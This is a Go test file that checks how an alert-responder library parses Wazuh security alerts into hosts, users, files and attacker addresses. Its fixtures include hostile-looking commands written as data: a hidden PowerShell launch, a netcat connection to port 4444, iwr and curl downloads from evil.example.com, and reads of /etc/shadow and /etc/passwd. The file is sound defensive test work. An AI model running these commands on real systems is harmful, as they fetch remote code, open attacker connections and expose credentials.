package ingest_test

import (
	"fmt"
	"testing"

	"github.com/stretchr/testify/assert"

	responder "github.com/m-mizutani/AlertResponder/lib"
)

const (
	testMD5    = "098f6bcd4621d373cade4e832627b4f6"
	testSHA1   = "a94a8fe5ccb19ba61c4c0873d391e987982fbbd3"
	testSHA256 = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"
)

func TestWazuh(t *testing.T) {
	for name, want := range map[string]good{
		"sshd": {
			name: "sshd: brute force trying to get access to the system. Non existent user.", rule: "5712", severity: 58,
			first: "2026-05-04T03:02:01Z", describes: "Failed password for invalid user oracle from 203.0.113.45 port 40022 ssh2\nMITRE ATT&CK: T1110, Brute Force, Credential Access\n",
			all: []string{"ipaddr 203.0.113.45 remote,client", "username oracle local,subject", "hostname bastion-1 local", "ipaddr 10.0.3.12 local"},
		},
		"fim": {
			name: "Integrity checksum changed.", rule: "550", severity: 40, describes: "MD5 before: 00000000000000000000000000000001\nSHA1 before: 0000000000000000000000000000000000000001\nSHA256 before: 0000000000000000000000000000000000000000000000000000000000000001",
			all: []string{"filepath /var/www/html/index.php file,object", "filehash " + testMD5 + " file", "filehash " + testSHA1 + " file", "filehash " + testSHA256 + " file",
				"username alice local,subject", "process /usr/bin/curl local,subject", "hostname web-1 local", "ipaddr 10.0.1.3 local"},
		},
		"sysmon": {
			name: "Powershell process spawned by Office process", rule: "92041", severity: 70, describes: "Command: powershell -nop -w hidden",
			all: []string{`process C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe local,subject`, `process C:\Program Files\Microsoft Office\WINWORD.EXE local`,
				"filehash " + testMD5 + " file", "filehash " + testSHA1 + " file", "filehash " + testSHA256 + " file", "username bob local,subject",
				"hostname pc-7.corp.example.com local", "hostname pc-7 local", "ipaddr 10.0.9.7 local",
				"url http://203.0.113.77/a.ps1 extracted", "ipaddr 203.0.113.77 extracted"},
		},
		"connection": {
			name: "Suspicious network connection by a script interpreter", rule: "100310", severity: 95,
			all: []string{"ipaddr 198.51.100.200 local,client", "ipaddr 203.0.113.77 remote,server", "domain c2.example.net remote,server", "username bob local,subject",
				`process C:\Windows\System32\wscript.exe local,subject`, "hostname pc-7.corp.example.com local", "hostname pc-7 local", "ipaddr 10.0.9.7 local"},
		},
		"logon": {
			name: "Logon Failure - Unknown user or bad password", rule: "60122", severity: 30,
			all: []string{"ipaddr 203.0.113.88 remote,client", "username administrator local,object", "hostname kali client",
				"hostname dc-1.corp.example.com local", "hostname dc-1 local", "ipaddr 10.0.9.1 local"},
		},
		"virustotal": {
			name: "VirusTotal: Alert - /tmp/x.sh - 41 engines detected this file", rule: "87105", severity: 70, link: "https://www.virustotal.com/gui/file/9f86d0/detection",
			describes: "VirusTotal: 41 of 60 engines detected it",
			all: []string{"filepath /tmp/x.sh file,object", "filehash " + testMD5 + " file", "filehash " + testSHA1 + " file",
				"hostname web-1 local", "ipaddr 10.0.1.3 local"},
		},
		"suricata": {
			name: "Suricata: Alert - ET MALWARE Example CnC Domain in DNS Lookup", rule: "86601", severity: 18,
			all: []string{"ipaddr 10.0.5.5 local,client", "ipaddr 203.0.113.53 remote,server", "domain c2.example.net remote,object",
				"hostname sensor-1 local", "ipaddr 10.0.0.40 local"},
		},
		"cloudtrail": {
			name: "AWS Cloudtrail: iam.amazonaws.com - CreateAccessKey.", rule: "80203", severity: 24, account: "111122223333", region: "us-east-1",
			all: []string{"ipaddr 203.0.113.90 remote,client", "username deployer local,subject", "accesskey AKIAIOSFODNN7EXAMPLE local,subject", "username backdoor local,object"},
		},
		"vulnerability": {
			name: "CVE-2024-3094 affects xz-utils", rule: "vulnerability-detector", severity: 77,
			all: []string{"cve CVE-2024-3094", "hostname web-1 local", "ipaddr 10.0.1.3 local"},
		},
		"shuffle": {
			name: "Audit: Command: /usr/bin/nc.", rule: "80792", severity: 18, describes: "Command: nc 203.0.113.66 4444",
			all: []string{"process /usr/bin/nc.openbsd local,subject", "filepath /usr/bin/nc file,object", "ipaddr 203.0.113.66 extracted", "hostname db-1 local", "ipaddr 10.0.1.4 local"},
		},
		"syslog": {
			name: "Firewall: many drops from one source", rule: "4151", severity: 36,
			all: []string{"ipaddr 203.0.113.91 client", "ipaddr 198.51.100.10 server", "ipaddr 10.0.0.254 local"},
		},
		"finding": {
			name: "Failed authentication attempt - vagrant from 203.0.113.45", rule: "d5cc0e71-0000-4000-8000-000000000002", severity: 30,
			first: "2026-05-04T12:00:00Z", describes: "port 1 ssh2\nMITRE ATT&CK: T1110\nTechniques: Brute Force",
			all: []string{"ipaddr 203.0.113.45 remote,client", "username vagrant local,subject", "process sshd local,subject", "hostname web-2 local", "ipaddr 10.0.1.9 local"},
		},
		"finding-flat": {
			name: "Malware written to disk", rule: "aa000000-0000-4000-8000-000000000003", severity: 90,
			all: []string{"ipaddr 10.0.9.9 local,client", "ipaddr 203.0.113.77 remote,server", "domain c2.example.net remote,object", `filepath C:\Users\bob\x.exe file,object`,
				"filehash " + testSHA256 + " file", `process C:\Windows\explorer.exe local,subject`, "username bob local,subject", "cve CVE-2026-0002", "hostname pc-9 local"},
		},
	} {
		t.Run(name, func(t *testing.T) {
			want.source = "wazuh"
			want.test(t, one(t, read(t, "wazuh/"+name+".json")).Alert)
		})
	}
}

// A flood from one address is one incident; another agent, another attacker, another file is another.
func TestWazuhIncidents(t *testing.T) {
	for name, c := range map[string]struct{ same, others [][2]string }{
		"sshd": {
			same:   [][2]string{{"1777863721.1148231", "1777863999.2"}, {"oracle", "admin"}, {`"firedtimes":3`, `"firedtimes":300`}, {"03:02:0", "09:09:0"}, {`"level":10`, `"level":12`}, {"node-1", "node-2"}},
			others: [][2]string{{"203.0.113.45", "203.0.113.46"}, {`"012"`, `"013"`}, {`"5712"`, `"5763"`}, {"wazuh-eu", "wazuh-us"}},
		},
		"fim": {
			same:   [][2]string{{"1777867200.55", "1777867300.9"}, {testSHA256, "0000000000000000000000000000000000000000000000000000000000000002"}, {"alice", "bob"}},
			others: [][2]string{{"index.php", "shell.php"}, {`"web-1"`, `"web-2"`}},
		},
		"sysmon":        {same: [][2]string{{"000000000001", "000000000002"}, {"a.ps1", "b.ps1"}}, others: [][2]string{{"powershell.exe", "cmd.exe"}, {`"021"`, `"022"`}}},
		"connection":    {same: [][2]string{{"50111", "50112"}}, others: [][2]string{{"203.0.113.77", "203.0.113.78"}}},
		"logon":         {same: [][2]string{{"administrator", "guest"}}, others: [][2]string{{"203.0.113.88", "203.0.113.89"}}},
		"virustotal":    {same: [][2]string{{"1777874399.1", "1777874000.1"}, {`"41"`, `"45"`}}, others: [][2]string{{"/tmp/x.sh", "/tmp/y.sh"}, {testSHA1, "b" + testSHA1[1:]}}},
		"suricata":      {same: [][2]string{{"50000", "50001"}}, others: [][2]string{{"2027758", "2027759"}, {"10.0.5.5", "10.0.5.6"}}},
		"cloudtrail":    {same: [][2]string{{"AKIAIOSFODNN7EXAMPLE", "AKIAI44QH8DHBEXAMPLE"}}, others: [][2]string{{"203.0.113.90", "203.0.113.92"}, {"deployer", "alice"}, {"CreateAccessKey", "CreateUser"}}},
		"vulnerability": {same: [][2]string{{"23506", "23505"}, {"5.6.0", "5.6.1"}, {`"Active"`, `"Solved"`}, {"23506", "23502"}}, others: [][2]string{{"CVE-2024-3094", "CVE-2024-3095"}, {`"name":"xz-utils"`, `"name":"liblzma5"`}}},
		"shuffle":       {same: [][2]string{{"1777888800.9", "1777888900.9"}}, others: [][2]string{{"nc.openbsd", "ncat"}}},
		"syslog":        {same: [][2]string{{"198.51.100.10", "198.51.100.11"}}, others: [][2]string{{"203.0.113.91", "203.0.113.92"}, {"10.0.0.254", "10.0.0.253"}}},
		"finding":       {same: [][2]string{{"f166aa6b", "00000000"}, {"vagrant", "root"}, {"node01", "node02"}}, others: [][2]string{{"203.0.113.45", "203.0.113.46"}, {`"003"`, `"004"`}, {`"name":"wazuh"`, `"name":"other"`}, {`"name":"web-2"`, `"name":"web-3"`}}},
		"finding-flat":  {others: [][2]string{{`x.exe`, `y.exe`}, {"203.0.113.77", "203.0.113.78"}, {`"007"`, `"008"`}}},
	} {
		t.Run(name, func(t *testing.T) {
			i := incident{first: read(t, "wazuh/"+name+".json")}
			for _, r := range c.same {
				i.same = append(i.same, with(t, i.first, r[0], r[1]))
			}
			for _, r := range c.others {
				i.others = append(i.others, with(t, i.first, r[0], r[1]))
			}
			i.test(t)
		})
	}
}

// Each part of a key tells two incidents of one rule and one agent apart.
func TestWazuhKeys(t *testing.T) {
	for name, c := range map[string]struct {
		data, more string
		others     [][2]string
	}{
		"a value":         {"", `,"syscheck":{"path":"HKEY_LOCAL_MACHINE\\Software\\Run","value_name":"x1"}`, [][2]string{{"x1", "x2"}, {"Run", "RunOnce"}}},
		"a policy":        {`"sca":{"policy_id":"cis_1","policy":"p","check":{"id":"28500","title":"t"}}`, "", [][2]string{{"cis_1", "cis_2"}, {"28500", "28501"}}},
		"a policy's name": {`"sca":{"policy":"p1","check":{"title":"t1"}}`, "", [][2]string{{"p1", "p2"}, {"t1", "t2"}}},
		"users":           {`"srcuser":"alice","dstuser":"root"`, "", [][2]string{{"alice", "bob"}, {"root", "admin"}}},
		"a rootkit":       {`"title":"t1","file":"/usr/bin/.x"`, "", [][2]string{{"t1", "t2"}, {"/.x", "/.y"}}},
		"YARA":            {`"yara_rule":"r","yara_scanned_file":"/srv/x.php"`, "", [][2]string{{"x.php", "y.php"}}},
		"audit":           {`"audit":{"exe":"/usr/bin/vi","file":{"name":"/etc/passwd"}}`, "", [][2]string{{"passwd", "shadow"}, {"bin/vi", "bin/ed"}}},
		"Windows":         {`"win":{"system":{"providerName":"p1","eventID":"4720"},"eventdata":{"a":"b"}}`, "", [][2]string{{"p1", "p2"}, {"4720", "4726"}}},
		"AWS": {`"aws":{"id":"f1","eventName":"GetObject","userIdentity":{"arn":"arn:aws:sts::111122223333:assumed-role/r/s1"},"requestParameters":{"bucketName":"example-backups"}}`, "",
			[][2]string{{"f1", "f2"}, {"GetObject", "PutObject"}, {"r/s1", "r/s2"}, {"example-backups", "example-logs"}}},
		"a role at an address": {`"aws":{"eventName":"GetObject","sourceIPAddress":"203.0.113.1","userIdentity":{"arn":"arn:aws:sts::111122223333:assumed-role/r/s1"}}`, "", [][2]string{{"r/s1", "r/s2"}}},
		"a user at an address": {`"office365":{"ClientIP":"203.0.113.1","Operation":"FileDownloaded","UserId":"alice@example.com"}`, "", [][2]string{{"alice", "bob"}, {"Downloaded", "Deleted"}}},
		"a container":          {`"docker":{"Type":"container","Actor":{"ID":"4c1b7e90d2aa"}}`, "", [][2]string{{"4c1b", "5c1b"}}},
		"Office 365":           {`"office365":{"UserId":"alice@example.com","Operation":"FileDeleted","ObjectId":"o1"}`, "", [][2]string{{"FileDeleted", "FileMoved"}, {"o1", "o2"}}},
		"GitHub":               {`"github":{"actor":"alice","action":"repo.destroy","repo":"example/shop"}`, "", [][2]string{{"destroy", "rename"}, {"shop", "blog"}}},
		"Google Cloud":         {`"gcp":{"protoPayload":{"resourceName":"projects/p/instances/i1"}}`, "", [][2]string{{"i1", "i2"}}},
		"osquery":              {`"osquery":{"name":"q1","columns":{"path":"/tmp/x"}}`, "", [][2]string{{"q1", "q2"}, {"/tmp/x", "/tmp/y"}}},
	} {
		t.Run(name, func(t *testing.T) {
			i := incident{first: wazuhAlert(c.data, c.more)}
			for _, r := range c.others {
				i.others = append(i.others, with(t, i.first, r[0], r[1]))
			}
			i.test(t)
		})
	}
	for _, name := range []string{"image", "newProcessName", "sourceImage", "targetImage", "targetFilename", "targetObject", "queryName", "serviceName", "imageLoaded", "path", "memberSid", "targetUserName"} {
		first := wazuhAlert(`"win":{"eventdata":{"`+name+`":"one"}}`, "")
		incident{first: first, others: []string{with(t, first, "one", "two")}}.test(t)
	}
}

func TestWazuhLevels(t *testing.T) {
	last := -1.0
	for level := range 17 {
		a := one(t, with(t, read(t, "wazuh/sshd.json"), `"level":10`, fmt.Sprintf(`"level":%d`, level))).Alert
		assert.Greater(t, a.Severity, last)
		low, medium, high := a.Severity < 40, a.Severity >= 40 && a.Severity < 70, a.Severity >= 70 && a.Severity < 90
		assert.Equal(t, []bool{level <= 6, level >= 7 && level <= 11, level >= 12 && level <= 14}, []bool{low, medium, high}, level)
		last = a.Severity
	}
	assert.Equal(t, 100.0, last)
}

func TestWazuhSolved(t *testing.T) {
	a := one(t, with(t, read(t, "wazuh/vulnerability.json"), `"Active"`, `"Solved"`)).Alert
	assert.Equal(t, responder.Resolved, a.State)
}

// alert of Wazuh with this data.
func wazuhAlert(data, more string) string {
	return `{"timestamp":"2026-05-04T03:02:01.382+0000","rule":{"level":5,"description":"d","id":"100001"},"agent":{"id":"001","name":"h","ip":"10.0.0.1"},"manager":{"name":"m"},"data":{` + data + `}` + more + `}`
}

// Attacker and own side are never confused.
func TestWazuhData(t *testing.T) {
	for name, c := range map[string]struct {
		data, more string
		want       []string
	}{
		"a request":             {`"srcip":"203.0.113.1","url":"/etc/passwd","id":"404","protocol":"GET"`, "", []string{"ipaddr 203.0.113.1 remote,client"}},
		"a visitor":             {`"url":"/etc/passwd","id":"404","protocol":"GET"`, `,"full_log":"203.0.113.1 - - [04/May/2026:03:02:01 +0000] \"GET /etc/passwd HTTP/1.1\" 404 153"`, []string{"ipaddr 203.0.113.1 remote,client"}},
		"a proxy":               {`"srcip":"10.0.0.9","url":"http://evil.example/x"`, "", []string{"ipaddr 10.0.0.9 local,client", "url http://evil.example/x"}},
		"the agent asked":       {`"srcip":"10.0.0.1","dstip":"10.0.0.2"`, "", []string{"ipaddr 10.0.0.1 local,client", "ipaddr 10.0.0.2 local,server"}},
		"sudo":                  {`"srcuser":"alice","dstuser":"root","command":"/bin/cat /etc/shadow"`, "", []string{"username alice local,subject", "username root local,object"}},
		"inward by HTTP":        {`"src_ip":"203.0.113.1","dest_ip":"10.0.0.5","http":{"hostname":"www.example.com","url":"/x"},"alert":{"signature_id":1}`, "", []string{"ipaddr 203.0.113.1 remote,client", "ipaddr 10.0.0.5 local,server", "hostname www.example.com local,object"}},
		"outward by TLS":        {`"src_ip":"10.0.0.5","dest_ip":"203.0.113.1","tls":{"sni":"evil.example"}`, "", []string{"ipaddr 203.0.113.1 remote,server", "ipaddr 10.0.0.5 local,client", "domain evil.example remote,server"}},
		"a file in a flow":      {`"fileinfo":{"filename":"/x","sha256":"` + testSHA256 + `"}`, "", []string{"filehash " + testSHA256 + " file"}},
		"a rootkit":             {`"title":"File '/usr/bin/.x' present","file":"/usr/bin/.x"`, "", []string{"filepath /usr/bin/.x file,object"}},
		"YARA":                  {`"yara_rule":"Webshell","yara_scanned_file":"/srv/x.php"`, "", []string{"filepath /srv/x.php file,object"}},
		"a registry value":      {"", `,"syscheck":{"path":"HKEY_LOCAL_MACHINE\\Software\\Run","value_name":"x","sha256_after":"` + testSHA256 + `"}`, nil},
		"a container":           {`"docker":{"Type":"container","Action":"start","Actor":{"ID":"4c1b7e90d2aa","Attributes":{"image":"alpine","name":"x"}}}`, "", []string{"container 4c1b7e90d2aa local,object", "image alpine local,object"}},
		"osquery":               {`"osquery":{"name":"n","columns":{"path":"/tmp/x","md5":"` + testMD5 + `","remote_address":"203.0.113.1","username":"alice"}}`, "", []string{"ipaddr 203.0.113.1 remote,server", "username alice local,subject", "filepath /tmp/x file,object", "filehash " + testMD5 + " file"}},
		"Sysmon, a name":        {`"win":{"eventdata":{"image":"C:\\x.exe","queryName":"evil.example","queryResults":"type:  5 a.example;::ffff:203.0.113.1;10.0.0.8;"}}`, "", []string{`process C:\x.exe local,subject`, "domain evil.example remote,object", "ipaddr 203.0.113.1 remote,server", "ipaddr 10.0.0.8 local,server"}},
		"Sysmon, inward":        {`"win":{"eventdata":{"image":"System","initiated":"false","sourceIp":"203.0.113.1","destinationIp":"198.51.100.1","destinationHostname":"h.example.com"}}`, "", []string{"process System local,subject", "ipaddr 203.0.113.1 remote,client", "ipaddr 198.51.100.1 local,server"}},
		"a remote thread":       {`"win":{"eventdata":{"sourceImage":"C:\\a.exe","targetImage":"C:\\lsass.exe","sourceUser":"CORP\\bob"}}`, "", []string{`process C:\a.exe local,subject`, `process C:\lsass.exe local,object`, "username bob local,subject"}},
		"Sysmon on Linux":       {`"Event":{"System":{"Computer":"h"},"EventData":{"Data":{"Image":"/usr/bin/nc","User":"bob","Initiated":"true","SourceIp":"10.0.0.1","DestinationIp":"203.0.113.1","TargetFilename":"/tmp/x"}}}`, "", []string{"ipaddr 10.0.0.1 local,client", "ipaddr 203.0.113.1 remote,server", "process /usr/bin/nc local,subject", "username bob local,subject", "filepath /tmp/x file,object"}},
		"a group":               {`"win":{"eventdata":{"memberName":"CN=bob,OU=x","memberSid":"S-1","targetUserName":"Administrators","subjectUserName":"alice"}}`, "", []string{"username alice local,subject", "username bob local,object"}},
		"Defender":              {`"win":{"eventdata":{"threat Name":"Trojan:Win32/X","path":"file:_C:\\t\\x.exe","detection User":"CORP\\bob","process Name":"C:\\b.exe"}}`, "", []string{`filepath C:\t\x.exe file,object`, "username bob local,subject", `process C:\b.exe local,subject`}},
		"loopback":              {`"win":{"eventdata":{"ipAddress":"127.0.0.1","targetUserName":"bob","subjectUserName":"-"}}`, "", []string{"username bob local,object"}},
		"text only":             {"", `,"full_log":"connection to evil.example.com and 203.0.113.1 failed"`, []string{"domain evil.example.com extracted", "ipaddr 203.0.113.1 extracted"}},
		"a name in the log":     {`"hostname":"db-7.example.com"`, "", []string{"hostname db-7.example.com local"}},
		"hashes beside data":    {`"sha256":"` + testSHA256 + `","md5":"` + testMD5 + `"`, "", []string{"filehash " + testSHA256 + " file", "filehash " + testMD5 + " file"}},
		"VirusTotal's own hash": {`"virustotal":{"sha1":"` + testSHA1 + `","source":{"file":"/tmp/x"}}`, "", []string{"filepath /tmp/x file,object", "filehash " + testSHA1 + " file"}},
		"an import hash":        {`"win":{"eventdata":{"image":"C:\\x.exe","hashes":"IMPHASH=` + testMD5 + `"}}`, "", []string{`process C:\x.exe local,subject`}},
		"what a file was":       {"", `,"syscheck":{"path":"/etc/x","md5_before":"` + testMD5 + `","sha256_before":"` + testSHA256 + `"}`, []string{"filepath /etc/x file,object"}},
		"an account":            {`"audit":{"acct":"alice","exe":"/usr/bin/su"}`, "", []string{"username alice local,subject", "process /usr/bin/su local,subject"}},
		"a script":              {`"win":{"eventdata":{"scriptBlockText":"iwr http://evil.example.com/x"}}`, "", []string{"url http://evil.example.com/x extracted", "domain evil.example.com extracted"}},
		"text beside addresses": {`"srcip":"203.0.113.1"`, `,"full_log":"GET / http://bots.example.com/bot.html 203.0.113.1"`, []string{"ipaddr 203.0.113.1 remote,client"}},
	} {
		all := append([]string{"hostname h local", "ipaddr 10.0.0.1 local"}, c.want...)
		if name == "the agent asked" || name == "Sysmon on Linux" {
			all = all[:1:1]
			all = append(all, c.want...)
		}
		assert.ElementsMatch(t, all, roles(one(t, wazuhAlert(c.data, c.more)).Alert), name)
	}
}

// Where no decoder found who asked for a page, the beginning of the log says it, and it is who it is about.
func TestWazuhVisitors(t *testing.T) {
	asked := func(log string) string {
		return wazuhAlert(`"url":"/etc/passwd","protocol":"GET"`, `,"full_log":"`+log+`"`)
	}
	incident{
		first:  asked("203.0.113.1 - - [04/May/2026:03:02:01 +0000]"),
		same:   []string{asked("203.0.113.1 - bob [04/May/2026:03:02:09 +0000]"), wazuhAlert(`"srcip":"203.0.113.1"`, "")},
		others: []string{asked("2001:db8::1 - - [04/May/2026:03:02:01 +0000]"), asked("www.example.com 203.0.113.1 - -")},
	}.test(t)
}

// What happened in a cloud happened on no host of Wazuh's.
func TestWazuhClouds(t *testing.T) {
	for name, c := range map[string]struct {
		data string
		want []string
	}{
		"Office 365":   {`"office365":{"UserId":"alice@example.com","ClientIP":"[2001:db8::9]:5000","Operation":"FileDownloaded","SourceFileName":"plan.docx"}`, []string{"ipaddr 2001:db8::9 remote,client", "username alice@example.com local,subject", "filepath plan.docx file,object"}},
		"a bad mail":   {`"office365":{"UserId":"alice@example.com","Operation":"TIMailData","SenderIp":"203.0.113.4","P1Sender":"x@evil.example","AttachmentData":[{"FileName":"a.html","SHA256":"` + testSHA256 + `"}]}`, []string{"ipaddr 203.0.113.4 remote,client", "username alice@example.com local,subject", "email x@evil.example remote", "filepath a.html file,object", "filehash " + testSHA256 + " file"}},
		"GitHub":       {`"github":{"actor":"alice","action":"org.add_member","user":"bob","org":"example"}`, []string{"username alice local,subject", "username bob local,object"}},
		"Google Cloud": {`"gcp":{"protoPayload":{"authenticationInfo":{"principalEmail":"a@example.com"},"requestMetadata":{"callerIp":"203.0.113.1"}}}`, []string{"ipaddr 203.0.113.1 remote,client", "username a@example.com local,subject"}},
		"DNS":          {`"gcp":{"jsonPayload":{"queryName":"evil.example.","sourceIP":"10.0.0.4"}}`, []string{"ipaddr 10.0.0.4 local,client", "domain evil.example remote,object"}},
		"an AWS role":  {`"aws":{"eventName":"GetObject","sourceIPAddress":"cloudformation.amazonaws.com","userIdentity":{"arn":"arn:aws:sts::111122223333:assumed-role/r/s"},"requestParameters":{"bucketName":"example-backups"}}`, []string{"arn arn:aws:sts::111122223333:assumed-role/r/s local,subject", "bucket example-backups local,object"}},
		"an instance":  {`"aws":{"eventName":"TerminateInstances","userIdentity":{"userName":"alice"},"requestParameters":{"instanceId":"i-0123456789abcdef0"}}`, []string{"username alice local,subject", "instance i-0123456789abcdef0 local,object"}},
		"GuardDuty":    {`"aws":{"source":"guardduty","accountId":"111122223333","region":"eu-west-1","type":"t","resource":{},"service":{"action":{"portProbeAction":{"portProbeDetails":{"remoteIpDetails":{"ipAddressV4":"203.0.113.1"},"localIpDetails":{"ipAddressV4":"10.0.0.7"}}}}}}`, []string{"ipaddr 203.0.113.1 remote,client", "ipaddr 10.0.0.7 local,server"}},
	} {
		assert.ElementsMatch(t, c.want, roles(one(t, wazuhAlert(c.data, "")).Alert), name)
	}
	sample := wazuhAlert(`"aws":{"source":"guardduty","type":"t","resource":{},"service":{"additionalInfo":{"sample":true}}}`, "")
	assert.True(t, one(t, sample).Alert.Sample)
	assert.False(t, one(t, with(t, sample, "true", "false")).Alert.Sample)
}

// A finding of Wazuh 5 with what others have not.
func TestWazuhFinding(t *testing.T) {
	finding := func(fields string) string {
		return `{"@timestamp":"2026-05-04T12:00:00.000Z","wazuh":{"rule":{"id":"r","title":"t","level":"high"},"agent":{"name":"h"}},` + fields + `}`
	}
	for fields, want := range map[string][]string{
		`"source":{"ip":"10.0.0.1"},"destination":{"ip":"203.0.113.7","domain":"c2.example.net"},"url":{"full":"https://c2.example.net/x"}`: {"ipaddr 10.0.0.1 local,client", "ipaddr 203.0.113.7 remote,server",
			"domain c2.example.net remote,server", "url https://c2.example.net/x"},
		`"source":{"ip":"203.0.113.7"},"destination":{"ip":"10.0.0.1","domain":"www.example.com"}`:                      {"ipaddr 203.0.113.7 remote,client", "ipaddr 10.0.0.1 local,server"},
		`"source":{"ip":"203.0.113.7"},"destination":{"ip":"198.51.100.1"},"host":{"ip":["198.51.100.1"]}`:              {"ipaddr 203.0.113.7 remote,client", "ipaddr 198.51.100.1 local,server"},
		`"source":{"ip":"198.51.100.1"},"destination":{"ip":"203.0.113.7"},"host":{"ip":["198.51.100.1"]}`:              {"ipaddr 198.51.100.1 local,client", "ipaddr 203.0.113.7 remote,server"},
		`"user":{"name":"alice","target":{"name":"backdoor"}}`:                                                          {"username alice local,subject", "username backdoor local,object"},
		`"container":{"id":"4c1b7e90d2aa","image":{"name":"alpine"}},"cloud":{"instance":{"id":"i-0123456789abcdef0"}}`: {"container 4c1b7e90d2aa local", "image alpine local", "instance i-0123456789abcdef0 local"},
		`"process":{"name":"sh","command_line":"curl http://evil.example.com/x","parent":{"executable":"/usr/sbin/nginx"},"hash":{"sha256":"` + testSHA256 + `"}}`: {"process sh local,subject", "process /usr/sbin/nginx local",
			"filehash " + testSHA256 + " file", "url http://evil.example.com/x extracted", "domain evil.example.com extracted"},
	} {
		assert.ElementsMatch(t, append([]string{"hostname h local"}, want...), roles(one(t, finding(fields)).Alert), fields)
	}
}

// Whoever sent it, and however it is wrapped, it is the same alert.
func TestWazuhForms(t *testing.T) {
	alert := read(t, "wazuh/sshd.json")
	want := one(t, alert)
	for _, body := range []string{`{"all_fields":` + alert + `}`, `{"_index":"wazuh-alerts-4.x","_id":"x","_source":` + alert + `}`, `{"alert":` + alert + `}`,
		`{"version":1,"command":"add","parameters":{"alert":` + alert + `}}`} {
		got := one(t, body)
		assert.Equal(t, body, got.Alert.Raw)
		got.Alert.Raw = want.Alert.Raw
		assert.Equal(t, want, got)
	}
	for _, body := range []string{`{"rule":{"level":5,"id":"1"}}`, `{"rule":{"id":"1"},"agent":{}}`, `{"wazuh":{"rule":{}}}`, `{"rule":{"level":"high","id":"1"},"agent":{}}`} {
		assert.Equal(t, "unknown", one(t, body).Alert.Source, body)
	}
	old := `{"rule":{"level":3,"id":5402,"description":"sudo"},"agent":{"id":"031","name":"h"},"srcuser":"alice","dstuser":"root"}`
	assert.ElementsMatch(t, []string{"username alice local,subject", "username root local,object", "hostname h local"}, roles(one(t, old).Alert))
}

func FuzzWazuh(f *testing.F) { fuzzSender(f, "wazuh/") }
